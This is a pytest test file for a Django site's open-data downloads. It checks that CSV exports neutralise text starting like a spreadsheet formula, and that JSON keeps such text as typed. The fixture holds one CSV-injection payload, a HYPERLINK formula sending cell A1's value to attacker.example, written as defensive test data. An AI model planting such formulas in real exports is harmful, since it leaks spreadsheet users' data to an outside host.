"""The public open data (CSV, JSON): text that a spreadsheet would run as a formula is neutralised in the CSV."""

import json

import pytest

from commitments.models import PublishedDeliverable
from napreport.report.models import CHART_FORMATS, PublishedReport
from tests.public.open_data_files import csv_records

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def formula_row(published):
    """A published row whose every free text starts like a formula (=, +, -, @).

    Frozen rows never change after publication; this one is edited afterwards, so the year's stored downloads
    (written from the rows as they were) are forgotten and the download renders the edited rows (the fallback
    for a year published without stored downloads). tests/public/test_stored_downloads.py shows the stored files
    hold exactly what that rendering gives."""
    PublishedReport.objects.filter(period=published, format__in=CHART_FORMATS).delete()  # the records, not the files
    row = PublishedDeliverable.objects.filter(period=published, parent=None).exclude(lead_note_en="").first()
    row.text_en = row.text_fr = FORMULA
    row.task_title_en = row.task_title_fr = "+1+2"
    row.lead_note_en = row.lead_note_fr = "-2+3"
    row.pillar_name_en = row.pillar_name_fr = "@SUM(A1:A9)"
    row.save()
    return row


def csv_record(content, deliverable_id):
    return next(record for record in csv_records(content) if record["deliverable_id"] == str(deliverable_id))


@pytest.mark.parametrize(
    "url",
    [
        "/en/downloads/2013-2014/action-items.csv",
        "/fr/telechargements/2013-2014/tableau-des-mesures.csv",
        "/en/progress/2013-2014/?download=csv",
        "/fr/progres/2013-2014/?download=csv",
    ],
)
def test_the_csv_neutralises_every_text_that_starts_like_a_formula(client, formula_row, url):
    record = csv_record(client.get(url).getvalue(), formula_row.deliverable_id)
    assert record["text"] == "'" + FORMULA
    assert record["task_title"] == "'+1+2"
    assert record["lead_note"] == "'-2+3"
    assert record["pillar"] == "'@SUM(A1:A9)"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in record.values())


def test_the_csv_leaves_ordinary_text_and_numbers_as_they_are(client, formula_row, published):
    ordinary = PublishedDeliverable.objects.filter(period=published, parent=None).exclude(pk=formula_row.pk).first()
    record = csv_record(client.get("/en/downloads/2013-2014/action-items.csv").getvalue(), ordinary.deliverable_id)
    assert record["text"] == ordinary.text_en
    assert record["task"] == ordinary.task_code
    assert record["deliverable_id"] == str(ordinary.deliverable_id)


def test_the_json_keeps_the_text_as_typed(client, formula_row):
    data = json.loads(client.get("/en/downloads/2013-2014/action-items.json").getvalue())
    record = next(record for record in data if record["deliverable_id"] == formula_row.deliverable_id)
    assert record["text"] == FORMULA
    assert record["task_title"] == "+1+2"
    assert record["lead_note"] == "-2+3"
    assert record["pillar"] == "@SUM(A1:A9)"
